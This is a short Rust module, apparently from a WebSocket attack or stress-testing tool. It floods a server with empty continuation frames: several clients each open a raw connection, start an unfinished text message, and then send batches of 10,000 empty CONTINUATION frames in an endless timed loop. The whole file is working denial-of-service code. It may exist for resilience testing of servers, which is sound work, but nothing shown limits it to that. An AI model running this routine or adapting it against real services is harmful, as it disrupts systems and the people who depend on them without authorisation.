//! Continuations without content.

use std::time::Duration;

use anyhow::Result;
use tokio::time::sleep;

use crate::attack::client::Crowd;
use crate::attack::raw::{CONTINUATION, TEXT, frame};

const CLIENTS: usize = 8;
const AT_ONCE: usize = 10_000;
const PACE: Duration = Duration::from_millis(50);

pub(super) async fn attack(crowd: &Crowd) {
    crowd
        .all(crowd.at_least(CLIENTS), |client| send(crowd, client))
        .await;
}

async fn send(crowd: &Crowd, client: usize) -> Result<()> {
    let mut peer = crowd.raw_peer(client, "/").await?;
    peer.send(&frame(TEXT, false, b"")).await?;
    let frames = frame(CONTINUATION, false, b"").repeat(AT_ONCE);
    let pace = PACE * u32::try_from(crowd.at_least(CLIENTS) / CLIENTS)?;
    loop {
        peer.send(&frames).await?;
        crowd.count_sent(1);
        sleep(pace).await;
    }
}
